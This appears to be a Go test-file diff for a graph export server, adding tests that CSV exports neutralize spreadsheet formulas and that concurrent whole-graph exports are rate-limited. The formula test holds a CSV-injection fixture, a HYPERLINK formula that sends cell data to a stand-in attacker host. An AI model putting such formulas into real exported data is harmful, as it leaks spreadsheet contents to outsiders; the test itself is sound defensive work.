@@ -17,6 +17,7 @@ import (
 	"time"
 
 	"github.com/diplograph/diplograph/internal/export"
+	"github.com/diplograph/diplograph/internal/graphgen"
 	"github.com/diplograph/diplograph/internal/kg"
 	"github.com/diplograph/diplograph/internal/memstore"
 	"github.com/diplograph/diplograph/internal/server"
@@ -35,16 +36,16 @@ type graphMLDocument struct {
 }
 
 // value returns the value of the attribute named name (for "node" or "edge") of data.
-func (d *graphMLDocument) value(t *testing.T, for_, name string, data []export.GraphMLData) string {
+func (d *graphMLDocument) value(t *testing.T, kind, name string, data []export.GraphMLData) string {
 	t.Helper()
 	var id string
 	for _, k := range d.Keys {
-		if k.For == for_ && k.Name == name {
+		if k.For == kind && k.Name == name {
 			id = k.ID
 		}
 	}
 	if id == "" {
-		t.Fatalf("GraphML declares no %s attribute %q", for_, name)
+		t.Fatalf("GraphML declares no %s attribute %q", kind, name)
 	}
 	for _, v := range data {
 		if v.Key == id {
@@ -61,7 +62,7 @@ func storeContents(t *testing.T, s kg.Store) (map[string]*kg.Entity, map[string]
 	entities := map[string]*kg.Entity{}
 	var ids []string
 	for _, k := range kg.Kinds {
-		page, err := s.ListEntities(t.Context(), kg.ListQuery{Kind: k})
+		page, err := s.ListEntities(t.Context(), kg.ListQuery{Kind: k, Limit: kg.NoLimit})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -70,7 +71,7 @@ func storeContents(t *testing.T, s kg.Store) (map[string]*kg.Entity, map[string]
 			ids = append(ids, e.ID)
 		}
 	}
-	rels, err := s.Relations(t.Context(), kg.RelationQuery{IDs: ids, Direction: kg.Out})
+	rels, err := s.Relations(t.Context(), kg.RelationQuery{IDs: ids, Direction: kg.Out, Limit: kg.NoLimit})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -299,7 +300,7 @@ func (g *gated) ListEntities(ctx context.Context, q kg.ListQuery) (*kg.EntityPag
 // TestExportStreams checks that an export sends the first page of the graph before it has read
 // the rest from the store, and pages through the store rather than reading it whole.
 func TestExportStreams(t *testing.T) {
-	b := storetest.Generate(3000)
+	b := graphgen.Generate(3000)
 	ms, err := memstore.Load(b)
 	if err != nil {
 		t.Fatal(err)
@@ -345,5 +346,132 @@ func TestExportStreams(t *testing.T) {
 	calls := counting.Calls()
 	if calls["ListEntities"] <= 2*len(kg.Kinds) || calls["Relations"] < len(kg.Kinds) {
 		t.Errorf("store calls = %v, want pages of entities (more than one page for the big kinds) and of relations", calls)
+	}
+}
+
+// TestExportCSVNeutralizesFormulas exports, over HTTP, a graph whose names and quotes start like
+// spreadsheet formulas (they come from outside documents) and checks that every such cell of the
+// CSV starts with ', as OWASP advises, while the other formats keep the text as it is.
+func TestExportCSVNeutralizesFormulas(t *testing.T) {
+	const text = `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes") @SUM(1+1) -2+3 was noted.`
+	b := &kg.Bundle{
+		Sources: []kg.Source{{ID: "source:hostile", Title: "Hostile", Text: text}},
+		Entities: []kg.Entity{
+			{ID: "person:at", Kind: kg.KindPerson, Name: "@SUM(1+1)",
+				Citations: []kg.Citation{{Source: "source:hostile", Quote: "@SUM(1+1)"}}},
+			{ID: "meeting:minus", Kind: kg.KindMeeting, Name: "-2+3 meeting",
+				Citations: []kg.Citation{{Source: "source:hostile", Quote: "-2+3 was noted"}}},
+		},
+		Relations: []kg.Relation{{Type: kg.RelAttended, From: "person:at", To: "meeting:minus", Properties: map[string]any{"role": "MEMBER"},
+			Citations: []kg.Citation{{Source: "source:hostile", Quote: `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`}}}},
+	}
+	ms, err := memstore.Load(b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := server.New(server.Config{}, ms, slog.New(slog.NewTextHandler(io.Discard, nil)))
+	rec := get(t, h, "/export?format=csv")
+	checkDownload(t, rec, "text/csv", "diplograph-graph.csv")
+	rows, err := csv.NewReader(rec.Body).ReadAll()
+	if err != nil {
+		t.Fatalf("the CSV does not parse: %v", err)
+	}
+	want := []string{"person:at", "'@SUM(1+1)", kg.RelAttended, "meeting:minus", "'-2+3 meeting",
+		`'=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`, "source:hostile"}
+	if len(rows) != 2 || !slices.Equal(rows[1], want) {
+		t.Fatalf("CSV rows = %q, want the header and %q", rows, want)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts like a formula", cell)
+			}
+		}
+	}
+	// JSON and GraphML are read as data, never as formulas: the text stays as the source has it.
+	rec = get(t, h, "/export?format=json")
+	var doc export.CytoscapeDocument
+	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
+		t.Fatal(err)
+	}
+	if e := doc.Elements.Edges; len(e) != 1 || len(e[0].Data.Citations) != 1 || e[0].Data.Citations[0].Quote != b.Relations[0].Citations[0].Quote {
+		t.Errorf("JSON edges = %+v, want the quote as written", e)
+	}
+}
+
+// TestExportsOfTheWholeGraphAreBounded holds two exports of the whole graph in progress (the
+// store holds back their second page) and checks that a third is refused at once with 429,
+// Retry-After and COST_LIMIT, and that exports run again once those two are done.
+func TestExportsOfTheWholeGraphAreBounded(t *testing.T) {
+	ms, err := memstore.Load(graphgen.Generate(3000))
+	if err != nil {
+		t.Fatal(err)
+	}
+	store := &gated{Store: ms, open: make(chan struct{})}
+	srv := httptest.NewServer(server.New(server.Config{MaxGraphExports: 2}, store, slog.New(slog.NewTextHandler(io.Discard, nil))))
+	defer srv.Close()
+
+	var running []*http.Response
+	for range 2 {
+		// JSON, whose first page of nodes reaches the client while the second is held back.
+		res, err := http.Get(srv.URL + "/export?format=json")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer res.Body.Close()
+		if res.StatusCode != http.StatusOK {
+			t.Fatalf("export while under the limit: status %d", res.StatusCode)
+		}
+		running = append(running, res)
+	}
+	res, err := http.Get(srv.URL + "/export?format=json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var body struct {
+		Errors []struct {
+			Message    string
+			Extensions map[string]any
+		}
+	}
+	_ = json.NewDecoder(res.Body).Decode(&body)
+	res.Body.Close()
+	if res.StatusCode != http.StatusTooManyRequests || res.Header.Get("Retry-After") == "" ||
+		len(body.Errors) != 1 || body.Errors[0].Extensions["code"] != kg.CodeCostLimit {
+		t.Errorf("a third export = %d (Retry-After %q) %+v, want 429 with Retry-After and COST_LIMIT",
+			res.StatusCode, res.Header.Get("Retry-After"), body.Errors)
+	}
+	// A neighbourhood is bounded by itself and is not counted.
+	if res, err := http.Get(srv.URL + "/export?format=csv&id=" + graphgen.Generate(3000).Entities[0].ID); err != nil || res.StatusCode != http.StatusOK {
+		t.Errorf("a neighbourhood export while two whole ones run: %v %v", err, res)
+	} else {
+		res.Body.Close()
+	}
+
+	close(store.open)
+	for _, res := range running {
+		if _, err := io.Copy(io.Discard, res.Body); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// The slots come back once the handlers have returned; Go's server returns them right after
+	// the body ends, so a few tries within a deadline are expected.
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		res, err := http.Get(srv.URL + "/export?format=csv")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := io.Copy(io.Discard, res.Body); err != nil {
+			t.Fatal(err)
+		}
+		res.Body.Close()
+		if res.StatusCode == http.StatusOK {
+			break
+		}
+		if res.StatusCode != http.StatusTooManyRequests || time.Now().After(deadline) {
+			t.Fatalf("export after the others ended: status %d", res.StatusCode)
+		}
+		time.Sleep(10 * time.Millisecond)
 	}
 }
